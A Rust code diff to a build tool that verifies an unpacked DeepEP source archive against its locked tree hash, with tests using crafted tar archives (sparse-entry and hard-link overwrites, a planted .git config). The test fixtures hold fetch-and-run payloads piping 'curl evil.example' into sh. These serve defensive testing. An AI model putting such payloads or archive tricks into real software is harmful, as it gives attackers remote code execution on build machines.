@@ -19,6 +19,10 @@ pub struct SourceInput {
     pub rev: String,
     /// `locked` when the tree hash is the lock's, else what replaced it.
     pub provenance: String,
+    /// The archive's own sha256 where one is known (the cache's record of the archive a
+    /// tree-pinned source was fetched as, or the file given): recorded in the build report.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub sha256: Option<String>,
 }
 
 impl SourceInput {
@@ -33,6 +37,10 @@ impl SourceInput {
             .unwrap_or_default();
         let tree = commstack_fetch::tree::tree_sha256(&path, &name)
             .with_context(|| format!("cannot hash the DeepEP source {}", path.display()))?;
+        let sha256 = match path.is_file() {
+            true => Some(commstack_digest::sha256_file(&path)?),
+            false => None,
+        };
         let provenance = match locked_tree {
             Some(t) if t == tree => "locked".to_string(),
             Some(t) => format!("OVERRIDE: tree {tree} is not the locked {t}"),
@@ -43,6 +51,7 @@ impl SourceInput {
             tree_sha256: tree,
             rev: rev.to_string(),
             provenance,
+            sha256,
         })
     }
 
@@ -50,22 +59,19 @@ impl SourceInput {
         self.provenance == "locked"
     }
 
-    /// Copy (directory, without `.git`) or unpack (archive, through commstack-archive)
-    /// into `dest`, which must not exist. An archive's single top directory (GitHub's,
-    /// `git archive --prefix`'s) is dropped by the rule the tree hash uses, so what is
-    /// unpacked hashes like the archive.
+    /// Copy (directory, without `.git`) or unpack (archive, through commstack-archive,
+    /// without `.git`) into `dest`, which must not exist, and refuse it, leaving nothing,
+    /// unless the tree written hashes to [`SourceInput::tree_sha256`]: whatever was hashed
+    /// before, the tree built from is checked. An archive's single top directory
+    /// (GitHub's, `git archive --prefix`'s) is dropped by the rule the tree hash uses.
     pub fn materialize(&self, dest: &Path) -> Result<()> {
-        if self.path.is_dir() {
-            commstack_archive::copy_tree_except(&self.path, dest, |rel| {
-                rel.file_name() == Some(".git".as_ref())
-            })
-        } else {
-            let options =
-                commstack_archive::Options::strip(commstack_archive::Strip::TopDirIfSingle);
-            commstack_archive::unpack(&self.path, dest, &options)
-                .map(|_| ())
-                .with_context(|| format!("cannot unpack the DeepEP source {}", self.path.display()))
-        }
+        commstack_fetch::tree::place_verified(
+            &self.path,
+            dest,
+            commstack_fetch::tree::Strip::TopDirIfSingle,
+            &self.tree_sha256,
+        )
+        .with_context(|| format!("cannot place the DeepEP source {}", self.path.display()))
     }
 }
 
@@ -187,10 +193,146 @@ mod tests {
         h.set_cksum();
         b.append(&h, &b"x"[..]).unwrap();
         b.finish().unwrap();
-        let src = SourceInput::from_path(&path, None, "567632d").unwrap();
-        let err = format!("{:#}", src.materialize(&d.path().join("out")).unwrap_err());
+        // Refused as soon as it is hashed: an archive the unpacker refuses has no tree.
+        let err = format!(
+            "{:#}",
+            SourceInput::from_path(&path, None, "567632d").unwrap_err()
+        );
         assert!(err.contains("leaves") && err.contains("../x.txt"), "{err}");
         assert!(!d.path().join("out").exists() && !d.path().join("x.txt").exists());
+    }
+
+    const GOOD: &[u8] = b"from setuptools import setup\nsetup(name='deep_ep')\n";
+    const EVIL: &[u8] = b"import os\nos.system('curl evil.example | sh')\n";
+
+    /// A tar.gz of raw entries (kind, path, data or link target); a GNU sparse entry holds
+    /// one region, its whole data.
+    fn raw_tar_gz(dir: &Path, name: &str, entries: &[(tar::EntryType, &str, &[u8])]) -> PathBuf {
+        let octal = |n: u64| {
+            let mut out = [0u8; 12];
+            out[..11].copy_from_slice(format!("{n:011o}").as_bytes());
+            out
+        };
+        let mut b = tar::Builder::new(Vec::new());
+        for (kind, path, payload) in entries {
+            let mut h = tar::Header::new_gnu();
+            h.set_path(path).unwrap();
+            h.set_mode(0o644);
+            h.set_entry_type(*kind);
+            let data: &[u8] = match kind {
+                tar::EntryType::Link => {
+                    h.set_link_name(std::str::from_utf8(payload).unwrap())
+                        .unwrap();
+                    b""
+                }
+                _ => payload,
+            };
+            h.set_size(data.len() as u64);
+            if *kind == tar::EntryType::GNUSparse {
+                let gnu = h.as_gnu_mut().unwrap();
+                gnu.sparse[0].offset = octal(0);
+                gnu.sparse[0].numbytes = octal(data.len() as u64);
+                gnu.realsize = octal(data.len() as u64);
+            }
+            h.set_cksum();
+            b.append(&h, data).unwrap();
+        }
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+        std::io::Write::write_all(&mut gz, &b.into_inner().unwrap()).unwrap();
+        let path = dir.join(name);
+        fs::write(&path, gz.finish().unwrap()).unwrap();
+        path
+    }
+
+    /// The locked DeepEP source, as the lock and the fetch cache give it: its tree hash
+    /// from the clean archive.
+    fn locked_source(dir: &Path) -> SourceInput {
+        use tar::EntryType::Regular;
+        let clean = raw_tar_gz(
+            dir,
+            "clean.tar.gz",
+            &[
+                (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
+                (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
+                (Regular, "DeepEP-567632d/setup.py", GOOD),
+            ],
+        );
+        let locked = SourceInput::from_path(&clean, None, "567632d").unwrap();
+        let mut src = SourceInput::from_path(&clean, Some(&locked.tree_sha256), "567632d").unwrap();
+        assert!(src.is_locked());
+        src.path = dir.join("DeepEP-567632d.tar.gz");
+        src
+    }
+
+    /// The step unpacks what the cache holds and checks the tree it wrote: an archive that
+    /// hashed to the locked tree by another reading (a sparse entry replacing setup.py, a
+    /// hard link to a file replaced later) is refused after unpacking, and nothing is left.
+    #[test]
+    fn a_source_that_unpacks_to_another_tree_is_refused_after_unpacking() {
+        use tar::EntryType::{GNUSparse, Link, Regular};
+        let sparse: &[(tar::EntryType, &str, &[u8])] = &[
+            (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
+            (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
+            (Regular, "DeepEP-567632d/setup.py", GOOD),
+            (GNUSparse, "DeepEP-567632d/setup.py", EVIL),
+        ];
+        let hard: &[(tar::EntryType, &str, &[u8])] = &[
+            (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
+            (Regular, "DeepEP-567632d/tools/helper.py", GOOD),
+            (
+                Link,
+                "DeepEP-567632d/setup.py",
+                b"DeepEP-567632d/tools/helper.py",
+            ),
+            (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
+        ];
+        for entries in [sparse, hard] {
+            let d = tempfile::tempdir().unwrap();
+            let src = locked_source(d.path());
+            raw_tar_gz(d.path(), "DeepEP-567632d.tar.gz", entries);
+            let out = d.path().join("build/src");
+            let result = src.materialize(&out);
+            let written = fs::read(out.join("setup.py")).ok();
+            assert!(
+                result.is_err(),
+                "unpacked, setup.py = {:?}",
+                written.map(|w| String::from_utf8_lossy(&w).into_owned())
+            );
+            let err = format!("{:#}", result.unwrap_err());
+            assert!(err.contains(&src.tree_sha256), "{err}");
+            assert!(!out.exists());
+            assert_eq!(fs::read_dir(d.path().join("build")).unwrap().count(), 0);
+        }
+    }
+
+    /// `.git` is not part of the tree: never written, beside the top directory (which must
+    /// still be stripped) or inside it.
+    #[test]
+    fn a_source_never_gets_a_git_directory() {
+        use tar::EntryType::Regular;
+        let config: &[u8] = b"[core]\n\tfsmonitor = curl evil.example | sh\n";
+        for git in [".git/config", "DeepEP-567632d/.git/config"] {
+            let d = tempfile::tempdir().unwrap();
+            let src = locked_source(d.path());
+            raw_tar_gz(
+                d.path(),
+                "DeepEP-567632d.tar.gz",
+                &[
+                    (Regular, "DeepEP-567632d/csrc/deep_ep.cpp", b"int x;\n"),
+                    (Regular, "DeepEP-567632d/tools/helper.py", EVIL),
+                    (Regular, "DeepEP-567632d/setup.py", GOOD),
+                    (Regular, git, config),
+                ],
+            );
+            let out = d.path().join("src");
+            src.materialize(&out).unwrap();
+            assert_eq!(fs::read(out.join("setup.py")).unwrap(), GOOD, "{git}");
+            let gits = walkdir::WalkDir::new(&out)
+                .into_iter()
+                .filter(|e| e.as_ref().unwrap().file_name() == ".git")
+                .count();
+            assert_eq!(gits, 0, "{git} was written");
+        }
     }
 
     #[test]
